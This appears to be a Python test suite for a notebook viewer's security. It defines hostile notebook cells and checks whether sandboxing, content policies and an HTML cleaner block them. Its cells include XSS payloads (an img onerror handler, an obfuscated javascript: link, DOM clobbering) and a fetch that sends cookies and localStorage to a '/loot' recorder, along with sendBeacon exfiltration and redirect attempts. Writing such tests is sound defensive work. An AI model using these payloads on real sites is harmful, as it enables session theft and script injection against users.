"""What a notebook that means harm tries, and how one sees that it came to nothing or succeeded."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from msgspec import Struct

from tests import hostile
from tests.hostile import SECRET, Cell, Guard, Scene, displays, html, note, script, shows


class Attack(Struct, frozen=True):
    """What a notebook tries: `cells` are made for the address that listens. `stopped` waits until
    it came to nothing, `landed` until it succeeded; both fail otherwise."""

    name: str
    cells: Callable[[str], list[Cell]]
    stopped: Callable[[Scene], None]
    landed: Callable[[Scene], None]
    without: tuple[Guard, ...]
    path: str = "/n/{}"
    file: str = "hostile.ipynb"


def says(expected: str) -> Callable[[Scene], None]:
    """The script of the output found out just this."""

    def check(scene: Scene) -> None:
        assert scene.told().strip() == expected

    return check


def holds(part: str) -> Callable[[Scene], None]:
    """The script of the output found this, among other things."""

    def check(scene: Scene) -> None:
        assert part in scene.told()

    return check


def refuses(*words: str) -> Callable[[Scene], None]:
    """The browser refused it, and says so."""
    return lambda scene: scene.refused(*words)


def reached(*parts: str) -> Callable[[Scene], None]:
    """All of these came to the recorder."""

    def check(scene: Scene) -> None:
        for part in parts:
            scene.reached(part)

    return check


def drawn(selector: str, more: Callable[[Scene], None] | None = None) -> Callable[[Scene], None]:
    """It is shown, as what it is."""

    def check(scene: Scene) -> None:
        scene.page.locator(selector).first.wait_for()
        if more:
            more(scene)

    return check


def is_so(expression: str) -> Callable[[Scene], None]:
    return lambda scene: void(scene.page.wait_for_function(expression))


def void(_: Any) -> None:
    return None


COOKIE = f"document.cookie.slice(-{len(f'canary={SECRET}')})"
"""The cookie that is a secret; before it stands one of the page, which says who is signed in."""


def loot(elsewhere: str) -> str:
    """Code that carries the secrets away, without a space or a quote that would end it anywhere."""
    return f"fetch('{elsewhere}/loot?'+{COOKIE}+localStorage.canary)"


def handler(elsewhere: str) -> str:
    """Markup that does so as soon as it is markup."""
    return f"<img src=data:, onerror={loot(elsewhere)}>"


STOLEN = reached(f"/loot?canary={SECRET}{SECRET}")


ANY_POLICY = hostile.page_policy()


SCRIPTS = [
    Attack(
        "a script reads cookies, storage and the page",
        lambda _: [
            script(
                f"await attempt('cookie', () => {COOKIE});"
                "await attempt('storage', () => localStorage.canary);"
                "await attempt('page', () => parent.document.title);"
                "await attempt('cookies of all', () => cookieStore.getAll())"
            )
        ],
        says(
            "cookie!SecurityError storage!SecurityError page!SecurityError "
            "cookies of all!SecurityError"
        ),
        holds(f"cookie=canary={SECRET} storage={SECRET} page="),
        (hostile.sandbox,),
    ),
    Attack(
        "a script calls the API",
        lambda _: [script("await attempt('api', async () => (await fetch('/api/health')).status)")],
        says("api!TypeError"),
        says("api=200"),
        (hostile.sandbox, hostile.frame_policy("sandbox", "form-action", "default-src")),
    ),
    Attack(
        "a script sends what it knows elsewhere",
        lambda to: [
            script(
                f"await attempt('fetch', () => fetch('{to}/fetch', {{mode: 'no-cors'}}));"
                f"navigator.sendBeacon('{to}/beacon', 'x')"
            )
        ],
        says("fetch!TypeError"),
        reached("/fetch", "/beacon"),
        (hostile.frame_policy("default-src"),),
    ),
    Attack(
        "a script leads the page away",
        lambda to: [
            script(
                f"await attempt('top', () => {{ top.location = '{to}/page' }});"
                f"await attempt('parent', () => {{ parent.location.href = '{to}/page' }})"
            )
        ],
        says("top!SecurityError parent!SecurityError"),
        reached("/page"),
        (hostile.sandbox,),
    ),
    Attack(
        "a script leads its own frame away",
        lambda to: [script(f"location.href = '{to}/page'")],
        refuses("frame-src"),
        reached("/page"),
        (hostile.page_policy("frame-src"),),
    ),
    Attack(
        "a page that goes on by itself leads its frame away",
        lambda to: [html(f'<meta http-equiv="refresh" content="0; url={to}/page">')],
        refuses("frame-src"),
        reached("/page"),
        (hostile.page_policy("frame-src"),),
    ),
    Attack(
        "a script opens a window",
        lambda to: [
            script(
                "const link = document.createElement('a');"
                f"Object.assign(link, {{href: '{to}/page', target: '_blank'}}).click()"
            )
        ],
        refuses("allow-popups"),
        reached("/page"),
        (hostile.sandbox,),
    ),
    Attack(
        "a form is sent without anybody",
        lambda to: [
            script(
                "document.forms[0].submit()",
                f'<form method="post" action="{to}/form"><input name="a" value="b"></form>',
            )
        ],
        refuses("allow-forms"),
        reached("/form"),
        (hostile.sandbox, hostile.page_policy("frame-src", "form-action")),
    ),
    Attack(
        "a script asks for a window of the browser",
        lambda _: [script("await attempt('answer', () => prompt('Sign in again'))")],
        says("answer=null"),
        says(f"answer={SECRET}"),
        (hostile.sandbox,),
    ),
]


OUTSIDE = [
    Attack(
        "HTML loads pictures, styles, fonts, films and pages from elsewhere",
        lambda to: [
            html(
                f"<style>@import url('{to}/import.css'); #x {{ background: url('{to}/back') }}"
                f"@font-face {{ font-family: f; src: url('{to}/font') }} #x {{ font-family: f }}"
                f"</style><p id=x>text<img src='{to}/img'><video src='{to}/video'></video>"
                f"<object data='{to}/object'></object><iframe src='{to}/page'></iframe>"
                f"<link rel=stylesheet href='{to}/style.css'><script src='{to}/script.js'></script>"
            )
        ],
        refuses("/img"),
        reached("import.css", "/back", "/font", "/img", "/video", "/page", "script.js"),
        (
            hostile.frame_policy(
                *("default-src", "img-src", "style-src", "font-src", "media-src", "script-src")
            ),
        ),
    ),
    Attack(
        "a Vega chart loads its data and pictures from elsewhere",
        lambda to: [
            displays(
                "application/vnd.vega.v6+json",
                {
                    "width": 50,
                    "height": 50,
                    "data": [{"name": "d", "url": f"{to}/data.json"}],
                    "marks": [
                        {
                            "type": "image",
                            "encode": {
                                "enter": {
                                    "url": {"value": f"{to}/img"},
                                    "width": {"value": 9},
                                    "height": {"value": 9},
                                }
                            },
                        }
                    ],
                },
            )
        ],
        refuses("/data.json", "connect"),
        reached("/data.json", "/img"),
        (hostile.frame_policy("default-src", "img-src"),),
    ),
    Attack(
        "a Plotly chart loads pictures and maps from elsewhere",
        lambda to: [
            displays(
                "application/vnd.plotly.v1+json",
                {
                    "data": [{"type": "scattergeo", "lon": [1], "lat": [2]}],
                    "layout": {
                        "images": [{"source": f"{to}/img", "sizex": 1, "sizey": 1}],
                        "xaxis": {"visible": True},
                    },
                    "config": {"topojsonURL": f"{to}/topo-json/"},
                },
            )
        ],
        refuses("/topo-json/", "connect"),
        reached("/topo-json/"),
        (hostile.frame_policy("default-src", "img-src"),),
    ),
    Attack(
        "a note loads a picture that counts its readers",
        lambda to: [note(f"![]({to}/pixel)")],
        refuses("/pixel"),
        reached("/pixel"),
        (hostile.page_policy("img-src"),),
    ),
]


NOTES = [
    Attack(
        "markup of a note runs",
        lambda to: [note(f'# Birds\n\n<img src="data:," onerror="{loot(to)}">')],
        drawn("h1:text('Birds')"),
        STOLEN,
        (hostile.cleaner, ANY_POLICY),
    ),
    Attack(
        "a link of a note is a script",
        lambda to: [note(f'<a href="java&#10;script:{loot(to)}">press</a> # Birds')],
        lambda scene: (
            drawn(".note a")(scene) or is_so("() => !document.querySelector('.note a').href")(scene)
        ),
        is_so("() => document.querySelector('.note a')?.href.startsWith('javascript:')"),
        (hostile.cleaner,),
    ),
    Attack(
        "a note names parts of the page",
        lambda _: [note("# Birds\n\n<img name=cookie><a id=root>x</a><form name=body></form>")],
        lambda scene: (
            drawn("h1:text('Birds')")(scene)
            or is_so("() => typeof document.cookie === 'string'")(scene)
        ),
        is_so("() => typeof document.cookie !== 'string'"),
        (hostile.cleaner,),
    ),
    Attack(
        "a note lies over the page in its own looks",
        lambda _: [note('# Birds\n\n<div class="backdrop">Sign in</div>')],
        lambda scene: (
            drawn("h1:text('Birds')")(scene)
            or is_so("() => !document.elementFromPoint(300, 20)?.closest('.markdown')")(scene)
        ),
        is_so("() => document.elementFromPoint(300, 20)?.closest('.markdown')"),
        (hostile.cleaner,),
    ),
    Attack(
        "a formula is a link that runs",
        lambda to: [note(r"$\href{javascript:alert(1)}{x}$ $y$")],
        lambda scene: (
            drawn(".katex >> nth=1")(scene)
            or is_so("() => !document.querySelector('.note a')")(scene)
        ),
        drawn(".note a[href^='javascript:']"),
        (hostile.rewritten("/assets/formula-.*js", ("trust:!1", "trust:!0")),),
    ),
]


def stream(text: str) -> dict[str, Any]:
    return {"output_type": "stream", "name": "stdout", "text": [text]}


def error(name: str, value: str, line: str) -> dict[str, Any]:
    return {"output_type": "error", "ename": name, "evalue": value, "traceback": [line, "end"]}


PLACES: dict[str, Callable[[str], Cell]] = {
    "text": lambda bad: shows(stream(f"begun {bad}")),
    "terminal": lambda bad: shows(stream(f"begun \x1b]0;{bad}\x07\x1b[31m{bad}\x1b[0m")),
    "error": lambda bad: shows(error(f"begun{bad}", "", "")),
    "words": lambda bad: shows(error("E", f"begun {bad}", "")),
    "frames": lambda bad: shows(error("E", "", f"begun {bad}")),
    "key": lambda bad: displays("application/json", {f"begun {bad}": 1}),
    "value": lambda bad: displays("application/json", ["begun", bad]),
    "mime": lambda bad: displays(f"x/begun{bad}", "data"),
    "table": lambda bad: html(
        '<table class="dataframe"><tbody><tr><td>begun</td><td>'
        f"{bad.replace('<', '&lt;')}</td></tr></tbody></table>"
    ),
}
